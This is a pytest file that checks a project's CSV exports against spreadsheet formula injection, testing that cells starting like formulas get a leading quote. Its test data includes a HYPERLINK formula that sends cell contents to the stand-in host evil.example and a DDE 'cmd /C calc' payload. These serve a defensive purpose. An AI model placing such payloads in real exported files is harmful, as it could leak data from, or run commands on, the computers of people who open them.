"""Every CSV gridlab writes: no text cell a spreadsheet would run as a formula, numbers left as
numbers, one column per name.

The files: the compare page's "Download comparison CSV" (through Dash's callback endpoint,
as the button sends it), a run's export over HTTP and from ``python run.py export``.
"""

from __future__ import annotations

import csv
import io

import pytest

from app import ids
from app.factory import create_app
from runstore.csvsafe import FORMULA_STARTS, SafeWriter, safe_cell
from tests.cli.support import gridlab
from tests.dashboard_support import seeded_run

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_cells(rows: list[list[str]]) -> None:
    """Assert that no cell is a live formula and that the header names each column once."""
    header = rows[0]
    assert len(header) == len(set(header)), sorted(
        name for name in header if header.count(name) > 1
    )
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), (cell, row[:3])


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        *((name, "'" + name) for name in FORMULA_NAMES),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("=", "'="),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_a_text_cell_that_would_be_a_formula_gets_a_leading_quote(text, cell):
    assert safe_cell(text) == cell
    buffer = io.StringIO()
    SafeWriter(buffer).writerow([text, -1.5, -3, None, True])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [cell, "-1.5", "-3", "", "True"]


@pytest.fixture
def formula_runs(store_url, store):
    """Runs named like formulas, finished and running; the recent mean return of those with
    300 episodes is below 0, of those with 150 above."""
    return [
        seeded_run(
            store,
            status="finished" if i < 2 else "running",
            episodes=300 if i % 2 == 0 else 150,
            name=name,
        )
        for i, name in enumerate(FORMULA_NAMES)
    ]


def _comparison_csv(store_url: str, run_ids: list[int]) -> str:
    """Return the file the compare page's download button sends, through Dash's endpoint."""
    app = create_app(store_url)
    client = app.server.test_client()
    deps = client.get("/_dash-dependencies").get_json()
    (download,) = [d for d in deps if d["output"] == f"{ids.COMPARE_CSV}.data"]
    states = {
        ids.COMPARE_RUNS: run_ids,
        ids.COMPARE_METRIC: "return",
        ids.COMPARE_THRESHOLD: 0.5,
    }
    response = client.post(
        "/_dash-update-component",
        json={
            "output": download["output"],
            "outputs": {"id": ids.COMPARE_CSV, "property": "data"},
            "inputs": [{"id": ids.COMPARE_CSV_BUTTON, "property": "n_clicks", "value": 1}],
            "changedPropIds": [f"{ids.COMPARE_CSV_BUTTON}.n_clicks"],
            "state": [
                {"id": item["id"], "property": item["property"], "value": states[item["id"]]}
                for item in download["state"]
            ],
        },
    )
    app.server.extensions["gridlab.store"].close()
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response.get_json()["response"][ids.COMPARE_CSV]["data"]["content"]


def test_the_comparison_csv_neutralises_formula_names(store_url, formula_runs):
    rows = list(csv.reader(io.StringIO(_comparison_csv(store_url, formula_runs))))
    _check_cells(rows)
    header = rows[0]
    names = {row[header.index("name")] for row in rows[1:]}
    assert names == {"'" + name for name in FORMULA_NAMES}
    assert "episodes_done" in header and "target_episodes" in header
    returns = [float(row[header.index("final_return")]) for row in rows[1:]]
    assert min(returns) < 0 < max(returns)  # negative numbers stay numbers


def test_the_run_exports_hold_no_formula(client, store, store_url, formula_runs):
    returns = []
    for run_id in formula_runs:
        response = client.get(f"/api/runs/{run_id}/export.csv")
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        assert len(rows) == 1 + store.get_run(run_id).episodes_done
        _check_cells(rows)
        returns += [float(row[1]) for row in rows[1:]]
    assert min(returns) < 0 < max(returns)  # returns below 0 stay numbers
    exported = gridlab("export", str(formula_runs[0]), "--format", "csv", "--db", store_url)
    assert exported.returncode == 0, exported.stderr
    assert exported.stdout == client.get(f"/api/runs/{formula_runs[0]}/export.csv").get_data(
        as_text=True
    )
